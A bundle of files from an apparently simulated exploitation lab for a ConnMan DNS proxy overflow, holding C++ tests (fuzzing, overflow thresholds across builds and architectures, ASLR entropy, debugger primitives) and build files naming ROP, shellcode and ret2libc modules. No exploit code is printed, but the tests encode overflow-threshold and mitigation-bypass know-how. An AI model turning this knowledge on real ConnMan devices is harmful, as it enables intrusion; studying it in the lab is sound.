#include <gtest/gtest.h>

#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/loader/boot.hpp"
#include "src/util/rng.hpp"

namespace connlab {
namespace {

using connman::DnsProxy;
using connman::ProxyOutcome;
using connman::Version;
using isa::Arch;
using loader::Boot;
using loader::ProtectionConfig;
using Kind = ProxyOutcome::Kind;

// ----------------------------------------------------------- fuzzing ----

/// Builds a junk-but-deliverable response: correct id/flags/question echo
/// (so it reaches the parser), then `extra` random bytes as the answer
/// section with a random answer count.
util::Bytes FuzzResponse(const dns::Message& query, util::Rng& rng) {
  util::ByteWriter w;
  w.WriteU16BE(query.header.id);
  w.WriteU16BE(0x8180);
  w.WriteU16BE(1);
  w.WriteU16BE(static_cast<std::uint16_t>(1 + rng.NextBelow(3)));
  w.WriteU16BE(0);
  w.WriteU16BE(0);
  (void)dns::EncodeName(w, query.questions[0].name);
  w.WriteU16BE(static_cast<std::uint16_t>(query.questions[0].type));
  w.WriteU16BE(static_cast<std::uint16_t>(query.questions[0].klass));
  const std::size_t extra = 10 + rng.NextBelow(5000);
  w.WriteBytes(rng.NextBytes(extra));
  return std::move(w).Take();
}

class FuzzSweep : public ::testing::TestWithParam<std::tuple<Arch, int>> {};

TEST_P(FuzzSweep, PatchedBuildNeverCrashesOrSpawns) {
  const Arch arch = std::get<0>(GetParam());
  util::Rng rng(static_cast<std::uint64_t>(std::get<1>(GetParam())) * 7919 + 3);
  auto sys = Boot(arch, ProtectionConfig::None(), 5).value();
  DnsProxy proxy(*sys, Version::k135);
  for (int i = 0; i < 40; ++i) {
    dns::Message query = dns::Message::Query(
        static_cast<std::uint16_t>(rng.NextU32()), "fuzz.example");
    ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
    ProxyOutcome outcome = proxy.HandleServerResponse(FuzzResponse(query, rng));
    EXPECT_NE(outcome.kind, Kind::kCrash) << i << ": " << outcome.ToString();
    EXPECT_NE(outcome.kind, Kind::kShell) << i << ": " << outcome.ToString();
  }
  EXPECT_EQ(proxy.stats().crashes, 0u);
}

TEST_P(FuzzSweep, VulnerableBuildNeverSpawnsShellsFromRandomJunk) {
  const Arch arch = std::get<0>(GetParam());
  util::Rng rng(static_cast<std::uint64_t>(std::get<1>(GetParam())) * 104729 + 17);
  auto sys = Boot(arch, ProtectionConfig::None(), 5).value();
  DnsProxy proxy(*sys, Version::k134);
  for (int i = 0; i < 40; ++i) {
    dns::Message query = dns::Message::Query(
        static_cast<std::uint16_t>(rng.NextU32()), "fuzz.example");
    ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
    ProxyOutcome outcome = proxy.HandleServerResponse(FuzzResponse(query, rng));
    // Random junk may crash 1.34 (the CVE) but must not spawn a shell:
    // shells require a *crafted* payload.
    EXPECT_NE(outcome.kind, Kind::kShell) << i << ": " << outcome.ToString();
  }
}

INSTANTIATE_TEST_SUITE_P(
    Seeds, FuzzSweep,
    ::testing::Combine(::testing::Values(Arch::kVX86, Arch::kVARM),
                       ::testing::Range(0, 5)),
    [](const auto& info) {
      return std::string(std::get<0>(info.param) == Arch::kVX86 ? "vx86"
                                                                : "varm") +
             "_s" + std::to_string(std::get<1>(info.param));
    });

// ------------------------------------------------------ cutter property ----

class CutterSweep : public ::testing::TestWithParam<int> {};

TEST_P(CutterSweep, ExpansionMatchesImageAtEveryRequiredByte) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 6151 + 1);
  const std::size_t size = 200 + rng.NextBelow(2000);
  dns::PayloadImage image(size);
  // Scatter random required words, at most one per 16-byte window so the
  // image stays cuttable.
  for (std::size_t base = 16; base + 20 < size; base += 16) {
    if (!rng.NextBool(0.6)) continue;
    const std::size_t off = base + rng.NextBelow(12);
    ASSERT_TRUE(image.SetWord(off, rng.NextU32()).ok());
  }
  auto labels = dns::CutIntoLabels(image);
  ASSERT_TRUE(labels.ok()) << labels.status().ToString();
  const util::Bytes expanded = dns::ExpandLabels(labels.value());
  ASSERT_EQ(expanded.size(), size + 1);
  EXPECT_EQ(expanded.back(), 0);
  for (std::size_t i = 0; i < size; ++i) {
    if (image.required(i)) {
      EXPECT_EQ(expanded[i], image.at(i)) << "offset " << i;
    }
  }
  // All labels are encodable (1..63 bytes).
  for (const auto& label : labels.value()) {
    EXPECT_GE(label.size(), 1u);
    EXPECT_LE(label.size(), dns::kMaxLabelLen);
  }
}

TEST_P(CutterSweep, WireRoundTripPreservesLabels) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 389 + 7);
  dns::PayloadImage image(100 + rng.NextBelow(400));
  auto labels = dns::CutIntoLabels(image);
  ASSERT_TRUE(labels.ok());
  util::ByteWriter w;
  ASSERT_TRUE(dns::EncodeLabels(w, labels.value()).ok());
  // Re-walk the wire: the label structure survives.
  std::size_t pos = 0;
  std::size_t count = 0;
  while (w.bytes()[pos] != 0) {
    pos += 1 + w.bytes()[pos];
    ASSERT_LT(pos, w.bytes().size());
    ++count;
  }
  EXPECT_EQ(count, labels.value().size());
}

INSTANTIATE_TEST_SUITE_P(Seeds, CutterSweep, ::testing::Range(0, 12));

// --------------------------------------------------- overflow threshold ----

class ThresholdSweep : public ::testing::TestWithParam<Arch> {};

TEST_P(ThresholdSweep, ExpansionBoundaryBehaviour) {
  // Sizes straddling the 1024-byte buffer: the patched build accepts up to
  // its bound and rejects past it; the vulnerable build accepts everything
  // and silently corrupts the frame beyond.
  for (std::size_t size : {512u, 1000u, 1022u, 1100u}) {
    auto sys = Boot(GetParam(), ProtectionConfig::None(), 9).value();
    DnsProxy patched(*sys, Version::k135);
    dns::Message query = dns::Message::Query(0x77, "t.example");
    ASSERT_TRUE(patched.AcceptClientQuery(dns::Encode(query).value()).ok());
    auto labels = dns::JunkLabels(size);
    ASSERT_TRUE(labels.ok());
    auto outcome = patched.HandleServerResponse(
        dns::Encode(dns::MaliciousAResponse(query, labels.value())).value());
    if (size <= 1022) {
      EXPECT_EQ(outcome.kind, Kind::kParsedOk) << size;
    } else {
      EXPECT_EQ(outcome.kind, Kind::kParseError) << size;
    }
    EXPECT_FALSE(outcome.overflowed);
  }
}

TEST_P(ThresholdSweep, VulnerableBuildOverflowIsArchDependent) {
  // A mild overflow (1040 bytes) stays short of the saved return address:
  // VX86 shrugs it off (nothing it clobbers is checked); VARM trips the
  // cleanup pointer slots — the quirk the paper's ARM exploits must
  // neutralise with NULLs.
  auto sys = Boot(GetParam(), ProtectionConfig::None(), 9).value();
  DnsProxy proxy(*sys, Version::k134);
  dns::Message query = dns::Message::Query(0x78, "t.example");
  ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
  auto labels = dns::JunkLabels(1040);
  ASSERT_TRUE(labels.ok());
  auto outcome = proxy.HandleServerResponse(
      dns::Encode(dns::MaliciousAResponse(query, labels.value())).value());
  EXPECT_TRUE(outcome.overflowed);
  if (GetParam() == Arch::kVX86) {
    EXPECT_EQ(outcome.kind, Kind::kParsedOk) << outcome.ToString();
  } else {
    EXPECT_EQ(outcome.kind, Kind::kCrash) << outcome.ToString();
  }
}

INSTANTIATE_TEST_SUITE_P(BothArchs, ThresholdSweep,
                         ::testing::Values(Arch::kVX86, Arch::kVARM),
                         [](const auto& info) {
                           return info.param == Arch::kVX86 ? "vx86" : "varm";
                         });

// ------------------------------------------------------------ ASLR props ----

TEST(AslrProps, DrawsAreHighEntropyAcrossSeeds) {
  std::set<mem::GuestAddr> libc_bases;
  std::set<mem::GuestAddr> stack_tops;
  for (std::uint64_t seed = 0; seed < 64; ++seed) {
    auto sys = Boot(Arch::kVARM, ProtectionConfig::WxAslr(), seed).value();
    libc_bases.insert(sys->layout.libc_base);
    stack_tops.insert(sys->layout.stack_top);
  }
  // With 12 bits of entropy, 64 draws should be (nearly) all distinct.
  EXPECT_GE(libc_bases.size(), 60u);
  EXPECT_GE(stack_tops.size(), 60u);
}

TEST(AslrProps, EntropyKnobNarrowsTheRange) {
  ProtectionConfig low = ProtectionConfig::WxAslr();
  low.aslr_entropy_bits = 2;  // only 4 possible slides
  std::set<mem::GuestAddr> bases;
  for (std::uint64_t seed = 0; seed < 32; ++seed) {
    auto sys = Boot(Arch::kVX86, low, seed).value();
    bases.insert(sys->layout.libc_base);
  }
  EXPECT_LE(bases.size(), 4u);
  EXPECT_GE(bases.size(), 2u);
}

// --------------------------------------------------------- cache stress ----

TEST(CacheProps, NeverExceedsCapacityUnderChurn) {
  connman::Cache cache(32);
  util::Rng rng(555);
  for (int i = 0; i < 2000; ++i) {
    const std::string host = "h" + std::to_string(rng.NextBelow(100));
    util::Bytes rdata = rng.NextBytes(4);
    cache.Insert(host, rdata, false, static_cast<std::uint32_t>(rng.NextBelow(300)),
                 static_cast<std::uint64_t>(i));
    ASSERT_LE(cache.size(), 32u);
  }
  // Lookups never return expired entries.
  const std::uint64_t now = 5000;
  cache.EvictExpired(now);
  for (int h = 0; h < 100; ++h) {
    for (const auto& entry : cache.Lookup("h" + std::to_string(h), now)) {
      EXPECT_GT(entry.expires_at, now);
    }
  }
}

}  // namespace
}  // namespace connlab
