// Debugger tests: the gdb-role primitives the profile extractor builds on.
#include <gtest/gtest.h>

#include "src/dbg/debugger.hpp"
#include "src/isa/vx86.hpp"
#include "src/loader/boot.hpp"

namespace connlab::dbg {
namespace {

using isa::Arch;
using loader::Boot;
using loader::ProtectionConfig;

std::unique_ptr<loader::System> MakeSys(Arch arch = Arch::kVX86) {
  auto sys = Boot(arch, ProtectionConfig::None(), 11);
  EXPECT_TRUE(sys.ok());
  return std::move(sys).value();
}

TEST(Debugger, ReadsGuestMemoryRegardlessOfPerms) {
  auto sys = MakeSys();
  Debugger dbg(*sys);
  // .text is not readable via normal writes but the debugger sees it.
  auto bytes = dbg.ReadMem(sys->layout.text_base, 16);
  ASSERT_TRUE(bytes.ok());
  EXPECT_EQ(bytes.value().size(), 16u);
  EXPECT_FALSE(dbg.ReadMem(0x100, 4).ok());  // unmapped stays unmapped
}

TEST(Debugger, ReadWordLittleEndian) {
  auto sys = MakeSys();
  Debugger dbg(*sys);
  ASSERT_TRUE(dbg.WriteMem(sys->layout.bss_base,
                           util::Bytes{0x78, 0x56, 0x34, 0x12}).ok());
  EXPECT_EQ(dbg.ReadWord(sys->layout.bss_base).value(), 0x12345678u);
}

TEST(Debugger, ExamineProducesHexdump) {
  auto sys = MakeSys();
  Debugger dbg(*sys);
  auto dump = dbg.Examine(sys->layout.text_base, 32);
  ASSERT_TRUE(dump.ok());
  EXPECT_NE(dump.value().find("08048000"), std::string::npos);
}

TEST(Debugger, DisassembleShowsPltJump) {
  auto sys = MakeSys();
  Debugger dbg(*sys);
  const auto plt = dbg.SymbolAddr("plt.memcpy").value();
  auto listing = dbg.Disassemble(plt, 5);
  ASSERT_TRUE(listing.ok());
  EXPECT_NE(listing.value().find("jmp ["), std::string::npos);
}

TEST(Debugger, DescribeUsesSymbols) {
  auto sys = MakeSys();
  Debugger dbg(*sys);
  const auto parse = dbg.SymbolAddr("connman.parse_response").value();
  EXPECT_EQ(dbg.Describe(parse), "connman.parse_response");
  EXPECT_EQ(dbg.Describe(parse + 0), dbg.Describe(parse));
}

TEST(Debugger, MapsAndRegistersRender) {
  auto sys = MakeSys(Arch::kVARM);
  Debugger dbg(*sys);
  const std::string maps = dbg.Maps();
  EXPECT_NE(maps.find(".text"), std::string::npos);
  EXPECT_NE(maps.find("libc"), std::string::npos);
  EXPECT_NE(maps.find("stack"), std::string::npos);
  EXPECT_NE(dbg.Registers().find("pc="), std::string::npos);
}

TEST(Debugger, BreakpointAndContinue) {
  auto sys = MakeSys();
  Debugger dbg(*sys);
  // Break on main; run from _start.
  ASSERT_TRUE(dbg.BreakAt("connman.main").ok());
  auto stop = sys->cpu->Run(100);
  EXPECT_EQ(stop.reason, vm::StopReason::kBreakpoint);
  EXPECT_EQ(sys->cpu->pc(), dbg.SymbolAddr("connman.main").value());
  // Continue: main calls forward_dns_reply -> parse_response (a hlt label).
  auto stop2 = dbg.Continue(100);
  EXPECT_NE(stop2.reason, vm::StopReason::kBreakpoint);
}

TEST(Debugger, BreakAtUnknownSymbolFails) {
  auto sys = MakeSys();
  Debugger dbg(*sys);
  EXPECT_FALSE(dbg.BreakAt("no.such.symbol").ok());
}

TEST(Debugger, WriteMemPatchesCode) {
  auto sys = MakeSys();
  Debugger dbg(*sys);
  const auto start = dbg.SymbolAddr("connman._start").value();
  util::ByteWriter w;
  isa::vx86::EncHlt(w);
  ASSERT_TRUE(dbg.WriteMem(start, w.bytes()).ok());
  sys->cpu->set_pc(start);
  auto stop = sys->cpu->Run(10);
  EXPECT_EQ(stop.reason, vm::StopReason::kHalted);
  EXPECT_EQ(stop.pc, start);
}

}  // namespace
}  // namespace connlab::dbg
