# Empty dependencies file for connlab.
# This may be replaced when dependencies are built.
