file(REMOVE_RECURSE
  "libconnlab.a"
)
