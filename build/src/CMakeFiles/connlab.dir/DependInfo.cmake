
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/adapt/httpcamd.cpp" "src/CMakeFiles/connlab.dir/adapt/httpcamd.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/adapt/httpcamd.cpp.o.d"
  "/root/repo/src/adapt/minimasq.cpp" "src/CMakeFiles/connlab.dir/adapt/minimasq.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/adapt/minimasq.cpp.o.d"
  "/root/repo/src/adapt/retarget.cpp" "src/CMakeFiles/connlab.dir/adapt/retarget.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/adapt/retarget.cpp.o.d"
  "/root/repo/src/attack/campaign.cpp" "src/CMakeFiles/connlab.dir/attack/campaign.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/attack/campaign.cpp.o.d"
  "/root/repo/src/attack/firmware.cpp" "src/CMakeFiles/connlab.dir/attack/firmware.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/attack/firmware.cpp.o.d"
  "/root/repo/src/attack/matrix.cpp" "src/CMakeFiles/connlab.dir/attack/matrix.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/attack/matrix.cpp.o.d"
  "/root/repo/src/attack/outcome.cpp" "src/CMakeFiles/connlab.dir/attack/outcome.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/attack/outcome.cpp.o.d"
  "/root/repo/src/attack/report.cpp" "src/CMakeFiles/connlab.dir/attack/report.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/attack/report.cpp.o.d"
  "/root/repo/src/attack/scenario.cpp" "src/CMakeFiles/connlab.dir/attack/scenario.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/attack/scenario.cpp.o.d"
  "/root/repo/src/connman/cache.cpp" "src/CMakeFiles/connlab.dir/connman/cache.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/connman/cache.cpp.o.d"
  "/root/repo/src/connman/dnsproxy.cpp" "src/CMakeFiles/connlab.dir/connman/dnsproxy.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/connman/dnsproxy.cpp.o.d"
  "/root/repo/src/connman/frame.cpp" "src/CMakeFiles/connlab.dir/connman/frame.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/connman/frame.cpp.o.d"
  "/root/repo/src/dbg/debugger.cpp" "src/CMakeFiles/connlab.dir/dbg/debugger.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/dbg/debugger.cpp.o.d"
  "/root/repo/src/dns/craft.cpp" "src/CMakeFiles/connlab.dir/dns/craft.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/dns/craft.cpp.o.d"
  "/root/repo/src/dns/message.cpp" "src/CMakeFiles/connlab.dir/dns/message.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/dns/message.cpp.o.d"
  "/root/repo/src/dns/name.cpp" "src/CMakeFiles/connlab.dir/dns/name.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/dns/name.cpp.o.d"
  "/root/repo/src/dns/record.cpp" "src/CMakeFiles/connlab.dir/dns/record.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/dns/record.cpp.o.d"
  "/root/repo/src/exploit/code_inject.cpp" "src/CMakeFiles/connlab.dir/exploit/code_inject.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/exploit/code_inject.cpp.o.d"
  "/root/repo/src/exploit/generator.cpp" "src/CMakeFiles/connlab.dir/exploit/generator.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/exploit/generator.cpp.o.d"
  "/root/repo/src/exploit/profile.cpp" "src/CMakeFiles/connlab.dir/exploit/profile.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/exploit/profile.cpp.o.d"
  "/root/repo/src/exploit/ret2libc.cpp" "src/CMakeFiles/connlab.dir/exploit/ret2libc.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/exploit/ret2libc.cpp.o.d"
  "/root/repo/src/exploit/rop_arm.cpp" "src/CMakeFiles/connlab.dir/exploit/rop_arm.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/exploit/rop_arm.cpp.o.d"
  "/root/repo/src/exploit/rop_x86.cpp" "src/CMakeFiles/connlab.dir/exploit/rop_x86.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/exploit/rop_x86.cpp.o.d"
  "/root/repo/src/exploit/shellcode.cpp" "src/CMakeFiles/connlab.dir/exploit/shellcode.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/exploit/shellcode.cpp.o.d"
  "/root/repo/src/gadget/finder.cpp" "src/CMakeFiles/connlab.dir/gadget/finder.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/gadget/finder.cpp.o.d"
  "/root/repo/src/gadget/memstr.cpp" "src/CMakeFiles/connlab.dir/gadget/memstr.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/gadget/memstr.cpp.o.d"
  "/root/repo/src/isa/assembler.cpp" "src/CMakeFiles/connlab.dir/isa/assembler.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/isa/assembler.cpp.o.d"
  "/root/repo/src/isa/disasm.cpp" "src/CMakeFiles/connlab.dir/isa/disasm.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/isa/disasm.cpp.o.d"
  "/root/repo/src/isa/isa.cpp" "src/CMakeFiles/connlab.dir/isa/isa.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/isa/isa.cpp.o.d"
  "/root/repo/src/isa/varm.cpp" "src/CMakeFiles/connlab.dir/isa/varm.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/isa/varm.cpp.o.d"
  "/root/repo/src/isa/vx86.cpp" "src/CMakeFiles/connlab.dir/isa/vx86.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/isa/vx86.cpp.o.d"
  "/root/repo/src/loader/boot.cpp" "src/CMakeFiles/connlab.dir/loader/boot.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/loader/boot.cpp.o.d"
  "/root/repo/src/loader/connman_image.cpp" "src/CMakeFiles/connlab.dir/loader/connman_image.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/loader/connman_image.cpp.o.d"
  "/root/repo/src/loader/image.cpp" "src/CMakeFiles/connlab.dir/loader/image.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/loader/image.cpp.o.d"
  "/root/repo/src/loader/layout.cpp" "src/CMakeFiles/connlab.dir/loader/layout.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/loader/layout.cpp.o.d"
  "/root/repo/src/loader/libc_image.cpp" "src/CMakeFiles/connlab.dir/loader/libc_image.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/loader/libc_image.cpp.o.d"
  "/root/repo/src/mem/address_space.cpp" "src/CMakeFiles/connlab.dir/mem/address_space.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/mem/address_space.cpp.o.d"
  "/root/repo/src/mem/perms.cpp" "src/CMakeFiles/connlab.dir/mem/perms.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/mem/perms.cpp.o.d"
  "/root/repo/src/mem/segment.cpp" "src/CMakeFiles/connlab.dir/mem/segment.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/mem/segment.cpp.o.d"
  "/root/repo/src/net/access_point.cpp" "src/CMakeFiles/connlab.dir/net/access_point.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/net/access_point.cpp.o.d"
  "/root/repo/src/net/dhcp.cpp" "src/CMakeFiles/connlab.dir/net/dhcp.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/net/dhcp.cpp.o.d"
  "/root/repo/src/net/dns_client.cpp" "src/CMakeFiles/connlab.dir/net/dns_client.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/net/dns_client.cpp.o.d"
  "/root/repo/src/net/fake_dns_server.cpp" "src/CMakeFiles/connlab.dir/net/fake_dns_server.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/net/fake_dns_server.cpp.o.d"
  "/root/repo/src/net/pineapple.cpp" "src/CMakeFiles/connlab.dir/net/pineapple.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/net/pineapple.cpp.o.d"
  "/root/repo/src/net/resolver.cpp" "src/CMakeFiles/connlab.dir/net/resolver.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/net/resolver.cpp.o.d"
  "/root/repo/src/net/sim.cpp" "src/CMakeFiles/connlab.dir/net/sim.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/net/sim.cpp.o.d"
  "/root/repo/src/util/bytes.cpp" "src/CMakeFiles/connlab.dir/util/bytes.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/util/bytes.cpp.o.d"
  "/root/repo/src/util/hexdump.cpp" "src/CMakeFiles/connlab.dir/util/hexdump.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/util/hexdump.cpp.o.d"
  "/root/repo/src/util/log.cpp" "src/CMakeFiles/connlab.dir/util/log.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/util/log.cpp.o.d"
  "/root/repo/src/util/rng.cpp" "src/CMakeFiles/connlab.dir/util/rng.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/util/rng.cpp.o.d"
  "/root/repo/src/util/status.cpp" "src/CMakeFiles/connlab.dir/util/status.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/util/status.cpp.o.d"
  "/root/repo/src/vm/cpu.cpp" "src/CMakeFiles/connlab.dir/vm/cpu.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/vm/cpu.cpp.o.d"
  "/root/repo/src/vm/events.cpp" "src/CMakeFiles/connlab.dir/vm/events.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/vm/events.cpp.o.d"
  "/root/repo/src/vm/syscalls.cpp" "src/CMakeFiles/connlab.dir/vm/syscalls.cpp.o" "gcc" "src/CMakeFiles/connlab.dir/vm/syscalls.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
