# Empty compiler generated dependencies file for test_connman.
# This may be replaced when dependencies are built.
