file(REMOVE_RECURSE
  "CMakeFiles/test_connman.dir/test_connman.cpp.o"
  "CMakeFiles/test_connman.dir/test_connman.cpp.o.d"
  "test_connman"
  "test_connman.pdb"
  "test_connman[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_connman.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
