file(REMOVE_RECURSE
  "CMakeFiles/test_mitigations.dir/test_mitigations.cpp.o"
  "CMakeFiles/test_mitigations.dir/test_mitigations.cpp.o.d"
  "test_mitigations"
  "test_mitigations.pdb"
  "test_mitigations[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_mitigations.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
