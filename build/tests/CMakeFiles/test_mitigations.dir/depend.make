# Empty dependencies file for test_mitigations.
# This may be replaced when dependencies are built.
