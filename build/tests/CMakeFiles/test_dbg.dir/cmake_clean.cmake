file(REMOVE_RECURSE
  "CMakeFiles/test_dbg.dir/test_dbg.cpp.o"
  "CMakeFiles/test_dbg.dir/test_dbg.cpp.o.d"
  "test_dbg"
  "test_dbg.pdb"
  "test_dbg[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_dbg.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
