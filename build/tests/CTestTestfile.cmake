# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/test_util[1]_include.cmake")
include("/root/repo/build/tests/test_mem[1]_include.cmake")
include("/root/repo/build/tests/test_isa[1]_include.cmake")
include("/root/repo/build/tests/test_vm[1]_include.cmake")
include("/root/repo/build/tests/test_loader[1]_include.cmake")
include("/root/repo/build/tests/test_dns[1]_include.cmake")
include("/root/repo/build/tests/test_connman[1]_include.cmake")
include("/root/repo/build/tests/test_exploit[1]_include.cmake")
include("/root/repo/build/tests/test_net[1]_include.cmake")
include("/root/repo/build/tests/test_attack[1]_include.cmake")
include("/root/repo/build/tests/test_adapt[1]_include.cmake")
include("/root/repo/build/tests/test_mitigations[1]_include.cmake")
include("/root/repo/build/tests/test_dbg[1]_include.cmake")
include("/root/repo/build/tests/test_gadget[1]_include.cmake")
include("/root/repo/build/tests/test_props[1]_include.cmake")
include("/root/repo/build/tests/test_integration[1]_include.cmake")
include("/root/repo/build/tests/test_listings[1]_include.cmake")
