file(REMOVE_RECURSE
  "CMakeFiles/bench_attack_matrix.dir/bench_attack_matrix.cpp.o"
  "CMakeFiles/bench_attack_matrix.dir/bench_attack_matrix.cpp.o.d"
  "bench_attack_matrix"
  "bench_attack_matrix.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_attack_matrix.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
