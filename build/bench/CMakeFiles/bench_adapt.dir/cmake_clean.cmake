file(REMOVE_RECURSE
  "CMakeFiles/bench_adapt.dir/bench_adapt.cpp.o"
  "CMakeFiles/bench_adapt.dir/bench_adapt.cpp.o.d"
  "bench_adapt"
  "bench_adapt.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_adapt.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
