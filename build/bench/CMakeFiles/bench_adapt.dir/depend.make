# Empty dependencies file for bench_adapt.
# This may be replaced when dependencies are built.
