# Empty compiler generated dependencies file for bench_dos.
# This may be replaced when dependencies are built.
