file(REMOVE_RECURSE
  "CMakeFiles/bench_dns_codec.dir/bench_dns_codec.cpp.o"
  "CMakeFiles/bench_dns_codec.dir/bench_dns_codec.cpp.o.d"
  "bench_dns_codec"
  "bench_dns_codec.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_dns_codec.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
