# Empty compiler generated dependencies file for bench_dns_codec.
# This may be replaced when dependencies are built.
