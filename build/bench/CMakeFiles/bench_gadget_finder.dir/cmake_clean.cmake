file(REMOVE_RECURSE
  "CMakeFiles/bench_gadget_finder.dir/bench_gadget_finder.cpp.o"
  "CMakeFiles/bench_gadget_finder.dir/bench_gadget_finder.cpp.o.d"
  "bench_gadget_finder"
  "bench_gadget_finder.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_gadget_finder.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
