# Empty dependencies file for bench_gadget_finder.
# This may be replaced when dependencies are built.
