file(REMOVE_RECURSE
  "CMakeFiles/bench_rop_arm.dir/bench_rop_arm.cpp.o"
  "CMakeFiles/bench_rop_arm.dir/bench_rop_arm.cpp.o.d"
  "bench_rop_arm"
  "bench_rop_arm.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_rop_arm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
