# Empty dependencies file for bench_rop_arm.
# This may be replaced when dependencies are built.
