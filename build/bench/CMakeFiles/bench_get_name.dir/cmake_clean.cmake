file(REMOVE_RECURSE
  "CMakeFiles/bench_get_name.dir/bench_get_name.cpp.o"
  "CMakeFiles/bench_get_name.dir/bench_get_name.cpp.o.d"
  "bench_get_name"
  "bench_get_name.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_get_name.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
