# Empty compiler generated dependencies file for bench_get_name.
# This may be replaced when dependencies are built.
