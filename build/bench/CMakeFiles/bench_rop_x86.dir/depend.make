# Empty dependencies file for bench_rop_x86.
# This may be replaced when dependencies are built.
