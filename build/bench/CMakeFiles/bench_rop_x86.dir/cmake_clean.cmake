file(REMOVE_RECURSE
  "CMakeFiles/bench_rop_x86.dir/bench_rop_x86.cpp.o"
  "CMakeFiles/bench_rop_x86.dir/bench_rop_x86.cpp.o.d"
  "bench_rop_x86"
  "bench_rop_x86.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_rop_x86.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
