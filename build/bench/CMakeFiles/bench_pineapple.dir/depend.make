# Empty dependencies file for bench_pineapple.
# This may be replaced when dependencies are built.
